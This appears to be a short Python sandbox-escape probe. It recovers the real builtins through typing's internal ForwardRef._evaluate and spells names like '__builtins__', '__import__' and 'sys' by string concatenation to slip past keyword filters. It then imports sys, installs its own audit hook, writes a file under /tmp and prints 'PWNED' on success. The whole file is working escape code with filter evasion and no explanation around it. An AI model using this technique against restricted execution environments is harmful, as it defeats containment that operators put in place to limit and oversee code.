# launcher: sys.addaudithook from the program
import typing
M = "PWN" + "ED"
box = {}
typing.get_args(typing.List["int"])[0]._evaluate(box, None, frozenset())
rb = box["__buil" + "tins__"]  # typing's builtins dict: the real one
ga = rb["getattr"]

s = rb["__imp" + "ort__"]("sy" + "s")
seen = []
try:
    s.addaudithook(lambda ev, args: seen.append(ev))  # a refusal is swallowed by addaudithook
    open("/tmp/rt_hook_probe", "w").close()
    if seen:
        print(M, "our own audit hook runs:", seen[:3])
except Exception as e:
    print("refused:", type(e).__name__, e)
